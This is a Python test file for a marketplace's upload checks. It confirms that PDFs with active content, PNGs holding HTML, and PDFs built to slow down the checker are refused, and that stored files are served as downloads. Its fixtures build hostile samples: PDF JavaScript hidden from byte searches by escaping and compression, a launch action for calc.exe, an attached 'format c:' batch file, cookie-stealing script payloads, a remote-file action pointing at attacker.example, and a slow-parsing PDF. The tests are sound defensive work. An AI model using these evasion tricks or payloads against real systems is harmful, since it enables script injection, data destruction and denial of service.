"""Uploads: a PDF with active content or an image with a web page in its text is refused beside the
field, and every stored file is served as a download under a name the registry made. (Before, files
were served inline under the uploader's own name, even q.html, and a PDF carrying /JavaScript or a
PNG carrying HTML in a text chunk was accepted.)"""

import io
import zlib

import pytest
import sqlalchemy as sa
from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from marketplace.auth.roles import Role
from marketplace.common import uploads
from marketplace.providers.models import Qualification
from tests import factories
from tests.conftest import field_error


def _pdf(build=None):
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if build:
        build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _javascript(writer):
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('x');")}
    )
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), writer._add_object(action)])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


def _launch(writer):
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
    )


def _escaped_and_compressed_javascript():
    """JavaScript whose names are #-escaped, in an object kept inside a compressed object stream: a
    search of the file's bytes for /JavaScript finds nothing."""
    hidden = b"<</S/J#61vaScript/J#53(app.alert(1))>>"
    objects = b"3 0 " + hidden
    stream = zlib.compress(objects)
    parts = [
        b"%PDF-1.5\n",
        b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n",
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n",
        b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(stream),
        stream,
        b"\nendstream endobj\n",
    ]
    body = b"".join(parts)
    offsets = [body.index(b"1 0 obj"), body.index(b"2 0 obj"), body.index(b"4 0 obj")]
    # a cross-reference stream: object 3 lives in object stream 4, at index 0
    xref_at = len(body)
    table = zlib.compress(
        b"".join(
            [
                b"\x00" + (0).to_bytes(3, "big") + b"\xff",
                b"\x01" + offsets[0].to_bytes(3, "big") + b"\x00",
                b"\x01" + offsets[1].to_bytes(3, "big") + b"\x00",
                b"\x02" + (4).to_bytes(3, "big") + b"\x00",
                b"\x01" + offsets[2].to_bytes(3, "big") + b"\x00",
                b"\x01" + xref_at.to_bytes(3, "big") + b"\x00",
            ]
        )
    )
    xref = (
        b"5 0 obj<</Type/XRef/Size 6/W[1 3 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(table)
        + table
        + b"\nendstream endobj\n"
    )
    return body + xref + b"startxref\n%d\n%%%%EOF\n" % xref_at


def _png(text):
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    out = io.BytesIO()
    Image.new("RGB", (4, 4), (10, 120, 200)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


ACTIVE = {
    "javascript": _pdf(_javascript),
    "launch action": _pdf(_launch),
    "attached file": _pdf(lambda w: w.add_attachment("run.bat", b"format c:")),
    "escaped and compressed javascript": _escaped_and_compressed_javascript(),
}


def test_the_compressed_sample_really_hides_its_javascript_from_a_byte_search():
    sample = ACTIVE["escaped and compressed javascript"]
    assert b"JavaScript" not in sample and b"/JS" not in sample
    assert uploads.problem(sample, "application/pdf") is uploads.ACTIVE_PDF


@pytest.mark.parametrize("kind", list(ACTIVE))
def test_a_pdf_with_active_content_is_refused_beside_the_field(kind, client, db, make_user, login_as):
    user = make_user(Role.AGENCY)
    factories.declare(user, n=61)
    db.session.commit()
    login_as(user)
    response = client.post(
        "/providers/me/qualifications/new?lang=en",
        data={
            "cert_number": "APJ-61",
            "issuer": "江苏省应急管理厅",
            "scope": "安全评价",
            "valid_from": "2024-01-01",
            "valid_to": "2028-12-31",
            "file": (io.BytesIO(ACTIVE[kind]), "licence.pdf"),
        },
        content_type="multipart/form-data",
    )
    html = response.get_data(as_text=True)
    assert "contains scripts, actions or embedded files" in field_error(html, "file")
    assert 'value="APJ-61"' in html
    assert db.session.scalar(sa.select(sa.func.count(Qualification.id))) == 0


def test_plain_pdfs_and_ordinary_image_metadata_are_accepted():
    assert uploads.problem(_pdf(), "application/pdf") is None
    assert uploads.problem(factories.PDF, "application/pdf") is None
    xmp = '<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/></x:xmpmeta>'
    assert uploads.problem(_png(xmp), "image/png") is None
    assert uploads.problem(_png("扫描于 2026-11-30，南通市应急管理局"), "image/png") is None


@pytest.mark.parametrize(
    "text", ["<html><body><script>alert(document.cookie)</script></body></html>", "<svg onload=alert(1)>"]
)
def test_an_image_with_a_web_page_in_a_text_chunk_is_refused(text):
    assert uploads.problem(_png(text), "image/png") is uploads.MARKUP_IMAGE


def test_an_unreadable_pdf_is_refused():
    assert uploads.problem(b"%PDF-1.7\n" + b"\x00garbage" * 50, "application/pdf") is uploads.UNREADABLE_PDF


def test_a_stored_file_is_a_download_under_a_generated_name(client, db, make_user, login_as):
    user = make_user(Role.AGENCY)
    provider = factories.declare(user, n=62)
    item = factories.add_qualification(user, provider)
    item.file.original_name = "q.html"  # whatever the uploader called it
    db.session.commit()
    login_as(user)
    response = client.get(f"/providers/{provider.id}/files/{item.file_id}")
    assert response.status_code == 200
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"filename=file-{item.file_id}-{item.file.sha256[:12]}.png" in disposition
    assert "q.html" not in disposition
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"]
    page = client.get("/providers/me").get_data(as_text=True)
    assert "q.html" in page  # the original name is still what the page shows


def _misdirected(entries):
    """A PDF whose cross-reference entries all point at the wrong object: each lookup then searches
    the whole file. 20,000 such entries took 49 s to check (0.4 MB; a 10 MB one, hours), holding
    the worker and, on SQLite, everyone's write lock."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    out.write(
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    )
    xref = out.tell()
    out.write(f"xref\n0 {entries}\n".encode() + b"0000000000 65535 f \n0000000009 00000 n \n0000000054 00000 n \n")
    out.write(b"0000000009 00000 n \n" * (entries - 3))
    out.write(f"trailer\n<< /Size {entries} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def test_a_pdf_built_to_make_checking_it_slow_is_refused_in_bounded_time(monkeypatch):
    import time

    monkeypatch.setattr(uploads, "PDF_CHECK_SECONDS", 0.5)
    started = time.monotonic()
    assert uploads.problem(_misdirected(20_000), "application/pdf") is uploads.TANGLED_PDF
    assert time.monotonic() - started < 3
    assert uploads.problem(_misdirected(uploads.PDF_MAX_OBJECTS + 10), "application/pdf") is uploads.TANGLED_PDF


def test_a_pdf_that_opens_a_remote_file_is_refused():
    def remote(writer):
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/S"): NameObject("/GoToR"),
                NameObject("/F"): TextStringObject("\\\\attacker.example\\share\\x.pdf"),
            }
        )

    assert uploads.problem(_pdf(remote), "application/pdf") is uploads.ACTIVE_PDF


def test_an_encrypted_pdf_that_opens_without_a_password_is_accepted_one_that_needs_one_is_refused():
    restricted = _pdf(lambda w: w.encrypt(user_password="", owner_password="bureau", algorithm="AES-256"))
    locked = _pdf(lambda w: w.encrypt(user_password="secret", owner_password="bureau", algorithm="AES-256"))
    assert uploads.problem(restricted, "application/pdf") is None
    assert uploads.problem(locked, "application/pdf") is uploads.LOCKED_PDF
